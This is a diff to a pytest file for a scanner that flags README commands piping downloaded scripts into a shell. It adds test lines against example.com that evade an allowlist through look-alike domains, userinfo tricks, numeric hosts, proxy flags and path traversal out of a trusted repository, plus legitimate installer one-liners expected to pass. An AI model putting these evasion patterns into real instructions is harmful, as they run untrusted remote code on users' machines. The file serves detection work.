@@ -145,7 +145,15 @@ FETCHED = {
     "encoded": "echo aGk= | base64 -d | bash",
     "Python": "curl https://example.com/i.py | python3",
     "beside a known one": "curl https://ollama.com/install.sh https://example.com/x | sh",
+    "beside a known one, bare": "curl https://ollama.com/install.sh example.com/x | sh",
+    "a number for a host": "curl https://ollama.com/install.sh 16909060/x | sh",
+    "with settings of the folder": "curl -Kx https://ollama.com/install.sh | sh",
+    "through another": "curl -x example.com:80 https://ollama.com/install.sh | sh",
     "a look-alike": "curl https://ollama.com.example.com/install.sh | sh",
+    "a look-alike without a path": "curl https://sh.rustup.rs.example.com | sh",
+    "a known one as a name": "curl https://sh.rustup.rs@example.com/x | sh",
+    "out of a known one": "curl https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.0/../../../someone/x/main/i.sh | sh",
+    "a fork by its commit": "curl https://raw.githubusercontent.com/nvm-sh/nvm/0123456789abcdef/install.sh | sh",
 }
 
 
@@ -157,8 +165,19 @@ def test_a_text_that_runs_what_it_fetches(name, model):
     assert finding.where == "README.md:3"
 
 
-def test_a_known_installer_is_a_note(model):
-    (model / "README.md").write_text("curl -fsSL https://ollama.com/install.sh | sh\n")
+@pytest.mark.parametrize(
+    "line",
+    [
+        "curl -fsSL https://ollama.com/install.sh | sh",
+        "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
+        "wget -qO- https://astral.sh/uv/install.sh | sudo -E bash",
+        "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.0/install.sh | bash",
+        '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
+        'powershell -c "irm https://astral.sh/uv/install.ps1 | iex"',
+    ],
+)
+def test_a_known_installer_is_a_note(line, model):
+    (model / "README.md").write_text(f"{line}\n")
     assert [(f.reason, f.outcome) for f in findings(model)] == [("known-installer", Outcome.PASS)]
 
 
